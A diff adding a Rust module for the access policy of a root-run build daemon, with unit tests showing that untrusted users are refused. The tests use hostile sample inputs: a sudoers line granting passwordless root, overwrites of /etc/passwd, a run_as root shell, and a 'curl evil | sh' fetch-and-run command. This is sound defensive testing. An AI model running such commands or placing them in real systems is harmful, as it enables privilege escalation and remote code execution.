@@ -0,0 +1,359 @@
+//! Access policy of the system daemon.
+//!
+//! `sys daemon start --system` runs as root and accepts connections from
+//! every local user, who are told apart by the credentials of their socket.
+//! What a user may ask for depends on the policy the daemon was started
+//! with:
+//!
+//! - root and `trusted` users may do everything, including applying binds
+//!   and stopping the daemon.
+//! - Other `allowed` users (everyone when the list is empty) may only
+//!   realize the builds of a submitted manifest. Each of their builds runs
+//!   its commands as a [build user](crate::build::users) of its own, with
+//!   checks enforced and the output made read-only. Their builds may only
+//!   fetch URLs and run commands, not as another user with `run_as`: the
+//!   other actions change the system, and the daemon would run them as root.
+//!
+//! Submitted manifests are trusted no further than their hashes: the daemon
+//! re-hashes every build and bind (see [`ManifestExport::validate`]), so a
+//! user can't place content in the store under another build's hash.
+
+use std::collections::BTreeSet;
+
+use serde::{Deserialize, Serialize};
+use thiserror::Error;
+
+use super::{DaemonRequest, SubmitRequest};
+use crate::action::Action;
+use crate::build::users::DEFAULT_BUILD_GROUP;
+use crate::manifest::ManifestExport;
+
+/// The local user on the other end of a connection.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Peer {
+  pub uid: u32,
+  /// User name, if the uid has one.
+  pub name: Option<String>,
+}
+
+impl Peer {
+  fn is_root(&self) -> bool {
+    self.uid == 0
+  }
+
+  fn display(&self) -> String {
+    match &self.name {
+      Some(name) => name.clone(),
+      None => format!("uid {}", self.uid),
+    }
+  }
+
+  fn is_in(&self, users: &BTreeSet<String>) -> bool {
+    self.name.as_ref().is_some_and(|name| users.contains(name))
+  }
+}
+
+/// What a peer is allowed to do.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Access {
+  /// Any request.
+  Full,
+  /// Status requests and build-only submissions.
+  BuildsOnly,
+}
+
+/// Who may use the system daemon, and how.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct DaemonPolicy {
+  /// Users with full access besides root.
+  pub trusted_users: BTreeSet<String>,
+  /// Users allowed to connect at all; empty allows everyone.
+  pub allowed_users: BTreeSet<String>,
+  /// Group whose members the build commands of untrusted users run as, one
+  /// build per member at a time.
+  pub build_group: String,
+}
+
+impl Default for DaemonPolicy {
+  fn default() -> Self {
+    Self {
+      trusted_users: BTreeSet::new(),
+      allowed_users: BTreeSet::new(),
+      build_group: DEFAULT_BUILD_GROUP.to_string(),
+    }
+  }
+}
+
+/// A request the policy refuses.
+#[derive(Debug, Error, PartialEq, Eq)]
+pub enum PolicyError {
+  #[error("{0} is not allowed to use the system daemon")]
+  NotAllowed(String),
+
+  #[error("{user} may only realize builds in the system store; {what} needs a trusted user")]
+  NotTrusted { user: String, what: &'static str },
+
+  #[error("build {build} runs a command as '{run_as}', which untrusted users can't submit")]
+  RunAs { build: String, run_as: String },
+
+  #[error("build {build} has a {action} action, which untrusted users can't submit")]
+  ForbiddenAction { build: String, action: &'static str },
+
+  #[error("{0}")]
+  InvalidManifest(String),
+}
+
+impl DaemonPolicy {
+  /// What `peer` may do.
+  pub fn access(&self, peer: &Peer) -> Result<Access, PolicyError> {
+    if peer.is_root() || peer.is_in(&self.trusted_users) {
+      return Ok(Access::Full);
+    }
+    if !self.allowed_users.is_empty() && !peer.is_in(&self.allowed_users) {
+      return Err(PolicyError::NotAllowed(peer.display()));
+    }
+    Ok(Access::BuildsOnly)
+  }
+
+  /// Check that `peer` may make `request`, returning its access.
+  pub fn authorize(&self, peer: &Peer, request: &DaemonRequest) -> Result<Access, PolicyError> {
+    let access = self.access(peer)?;
+    if access == Access::Full {
+      return Ok(access);
+    }
+
+    let not_trusted = |what| PolicyError::NotTrusted {
+      user: peer.display(),
+      what,
+    };
+    match request {
+      DaemonRequest::Status => Ok(access),
+      DaemonRequest::Submit(submit) if submit.build_only => {
+        check_untrusted_manifest(&submit.export)?;
+        Ok(access)
+      }
+      DaemonRequest::Submit(_) => Err(not_trusted("applying binds")),
+      DaemonRequest::Plan(_) | DaemonRequest::Apply(_) => Err(not_trusted("evaluating a config as root")),
+      DaemonRequest::Shutdown => Err(not_trusted("stopping the daemon")),
+    }
+  }
+}
+
+/// Refuse builds doing more than fetching URLs and running commands as the
+/// build user.
+fn check_untrusted_manifest(export: &ManifestExport) -> Result<(), PolicyError> {
+  for (hash, build) in &export.manifest.builds {
+    let name = || build.id.clone().unwrap_or_else(|| hash.0.clone());
+    let actions = build.create_actions.iter().chain(build.check_actions.iter().flatten());
+    for action in actions {
+      let forbidden = match action {
+        Action::FetchUrl { .. } => continue,
+        Action::Exec(opts) => match &opts.run_as {
+          Some(user) => {
+            return Err(PolicyError::RunAs {
+              build: name(),
+              run_as: user.clone(),
+            });
+          }
+          None => continue,
+        },
+        Action::ConfigSection(_) => "config section",
+        Action::Firewall(_) => "firewall",
+        Action::FileBlock(_) => "file block",
+        Action::File(_) => "file",
+        Action::Font(_) => "font",
+      };
+      return Err(PolicyError::ForbiddenAction {
+        build: name(),
+        action: forbidden,
+      });
+    }
+  }
+  Ok(())
+}
+
+impl SubmitRequest {
+  /// Check the submitted manifest was evaluated for this machine and that
+  /// every entry matches its hash.
+  pub fn validate(&self) -> Result<(), PolicyError> {
+    let platform = crate::platform::Platform::current()
+      .ok_or_else(|| PolicyError::InvalidManifest("unsupported platform".to_string()))?;
+    self
+      .export
+      .validate(&platform)
+      .map_err(|e| PolicyError::InvalidManifest(e.to_string()))
+  }
+}
+
+#[cfg(test)]
+mod tests {
+  use std::collections::BTreeMap;
+
+  use super::*;
+  use crate::action::actions::config_section::{ConfigFormat, ConfigSectionOpts, SectionState};
+  use crate::action::actions::exec::ExecOpts;
+  use crate::action::actions::file::{FileAttrs, FileOpts, FileSource, FileState};
+  use crate::action::actions::file_block::{BlockState, FileBlockOpts};
+  use crate::action::actions::firewall::{FirewallOpts, RuleState};
+  use crate::action::actions::font::{FontOpts, FontState};
+  use crate::api::PlanRequest;
+  use crate::build::BuildDef;
+  use crate::manifest::Manifest;
+  use crate::platform::firewall::FirewallRule;
+  use crate::platform::font::FontScope;
+  use crate::util::hash::Hashable;
+
+  fn peer(uid: u32, name: &str) -> Peer {
+    Peer {
+      uid,
+      name: Some(name.to_string()),
+    }
+  }
+
+  fn submit(build_only: bool, opts: ExecOpts) -> DaemonRequest {
+    submit_action(build_only, Action::Exec(opts))
+  }
+
+  fn submit_action(build_only: bool, action: Action) -> DaemonRequest {
+    let build = BuildDef {
+      id: Some("tool".to_string()),
+      inputs: None,
+      outputs: None,
+      create_actions: vec![action],
+      resources: None,
+      metadata: None,
+      check_actions: None,
+      prebuilt: None,
+      impure_env: None,
+    };
+    let mut manifest = Manifest::default();
+    manifest.builds.insert(build.compute_hash().unwrap(), build);
+    DaemonRequest::Submit(SubmitRequest {
+      export: ManifestExport::new(manifest, None).unwrap(),
+      build_only,
+      repair: false,
+    })
+  }
+
+  #[test]
+  fn trusted_users_have_full_access() {
+    let policy = DaemonPolicy {
+      trusted_users: BTreeSet::from(["admin".to_string()]),
+      ..Default::default()
+    };
+    assert_eq!(policy.access(&peer(0, "root")), Ok(Access::Full));
+    assert_eq!(policy.access(&peer(1000, "admin")), Ok(Access::Full));
+    assert_eq!(policy.access(&peer(1001, "alice")), Ok(Access::BuildsOnly));
+    let request = submit(false, ExecOpts::new("make"));
+    assert_eq!(policy.authorize(&peer(1000, "admin"), &request), Ok(Access::Full));
+  }
+
+  #[test]
+  fn untrusted_users_may_only_submit_builds() {
+    let policy = DaemonPolicy::default();
+    let alice = peer(1001, "alice");
+
+    assert!(policy.authorize(&alice, &submit(true, ExecOpts::new("make"))).is_ok());
+    assert!(policy.authorize(&alice, &DaemonRequest::Status).is_ok());
+    for request in [
+      submit(false, ExecOpts::new("make")),
+      DaemonRequest::Plan(PlanRequest::new("/home/alice/init.lua")),
+      DaemonRequest::Shutdown,
+    ] {
+      let err = policy.authorize(&alice, &request).unwrap_err();
+      assert!(matches!(err, PolicyError::NotTrusted { .. }), "{}", err);
+    }
+
+    let err = policy
+      .authorize(&alice, &submit(true, ExecOpts::new("sh").with_run_as("root")))
+      .unwrap_err();
+    assert!(matches!(err, PolicyError::RunAs { .. }), "{}", err);
+  }
+
+  #[test]
+  fn untrusted_builds_may_only_fetch_and_run_commands() {
+    let policy = DaemonPolicy::default();
+    let alice = peer(1001, "alice");
+    let fetch = Action::FetchUrl {
+      url: "https://example.com/tool.tar.gz".to_string(),
+      sha256: "0".repeat(64),
+      unpack: true,
+    };
+    assert!(policy.authorize(&alice, &submit_action(true, fetch)).is_ok());
+
+    let rejected = [
+      Action::ConfigSection(ConfigSectionOpts {
+        format: ConfigFormat::Git,
+        path: "/root/.gitconfig".to_string(),
+        section: "core".to_string(),
+        entries: BTreeMap::new(),
+        state: SectionState::default(),
+      }),
+      Action::Firewall(FirewallOpts {
+        rule: FirewallRule {
+          name: "open".to_string(),
+          direction: Default::default(),
+          verdict: Default::default(),
+          protocol: Default::default(),
+          port: None,
+          address: None,
+        },
+        state: RuleState::default(),
+      }),
+      Action::FileBlock(FileBlockOpts {
+        path: "/etc/sudoers".to_string(),
+        marker: "tool".to_string(),
+        content: "alice ALL=(ALL) NOPASSWD: ALL".to_string(),
+        comment: None,
+        state: BlockState::default(),
+      }),
+      Action::File(FileOpts {
+        path: "/etc/passwd".to_string(),
+        source: FileSource::Content(String::new()),
+        attrs: FileAttrs::default(),
+        state: FileState::default(),
+      }),
+      Action::Font(FontOpts {
+        name: "tool".to_string(),
+        source: "/tmp/font.ttf".to_string(),
+        scope: FontScope::System,
+        state: FontState::default(),
+      }),
+    ];
+    for action in rejected {
+      let err = policy.authorize(&alice, &submit_action(true, action)).unwrap_err();
+      assert!(matches!(err, PolicyError::ForbiddenAction { .. }), "{}", err);
+    }
+  }
+
+  #[test]
+  fn allowed_users_restrict_who_connects() {
+    let policy = DaemonPolicy {
+      allowed_users: BTreeSet::from(["alice".to_string()]),
+      ..Default::default()
+    };
+    assert_eq!(policy.access(&peer(1001, "alice")), Ok(Access::BuildsOnly));
+    assert_eq!(
+      policy.access(&peer(1002, "bob")),
+      Err(PolicyError::NotAllowed("bob".to_string()))
+    );
+    let nameless = Peer { uid: 1003, name: None };
+    assert_eq!(
+      policy.access(&nameless),
+      Err(PolicyError::NotAllowed("uid 1003".to_string()))
+    );
+  }
+
+  #[test]
+  fn submitted_manifests_must_match_their_hashes() {
+    let DaemonRequest::Submit(mut request) = submit(true, ExecOpts::new("make")) else {
+      unreachable!()
+    };
+    request.validate().unwrap();
+
+    let build = request.export.manifest.builds.values_mut().next().unwrap();
+    build.create_actions = vec![Action::Exec(ExecOpts::new("curl evil | sh"))];
+    let err = request.validate().unwrap_err();
+    assert!(err.to_string().contains("does not match its content"), "{}", err);
+  }
+}